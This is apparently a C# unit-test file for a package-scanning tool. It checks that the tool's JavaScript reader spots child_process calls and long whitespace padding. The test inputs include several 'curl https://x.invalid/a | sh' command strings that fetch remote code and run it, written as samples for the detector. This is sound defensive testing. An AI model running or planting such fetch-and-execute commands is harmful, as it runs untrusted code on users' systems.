using PackageWall.Inspection.Facts;
using PackageWall.Inspection.Languages.JavaScript;
using PackageWall.Inspection.Tests.Languages.Shell;

namespace PackageWall.Inspection.Tests.Languages.JavaScript;

/// <summary>The parser and the evaluator together.</summary>
public sealed class JavaScriptReaderTests
{
    private static FileFacts Read(string text, string file = "x.js") => new JavaScriptReader().Read(CommandFacts.Source(text, file));

    [Theory]
    [InlineData("require('child_process').exec('curl https://x.invalid/a | sh')", "x.js")]
    [InlineData("import { execSync as e } from 'node:child_process';\ne(`curl https://x.invalid/${'a'} | sh`);", "x.mjs")]
    [InlineData("import cp = require('child_process');\nconst c: string = 'curl https://x.invalid/a | sh' as string;\ncp!.exec(c);", "x.ts")]
    public void A_command_line_in_any_dialect_reaches_the_shell_reader(string text, string file)
    {
        var facts = Read(text, file);
        facts.Unread.ShouldBeEmpty();
        facts.HasFlow("execute.code", "network.fetch").ShouldBeTrue(string.Join('\n', CommandFacts.Lines(facts)));
    }

    [Fact]
    public void Oddities_become_facts_with_their_line()
    {
        var fact = Read("a();\nb();" + new string(' ', 400) + "c()").Facts.ShouldHaveSingleItem();
        (fact.Name, fact.Line).ShouldBe(("text.padding", 2));
    }

    [Fact]
    public void What_is_not_understood_is_unread() => Read("a(] evil(").Unread.ShouldNotBeEmpty();
}
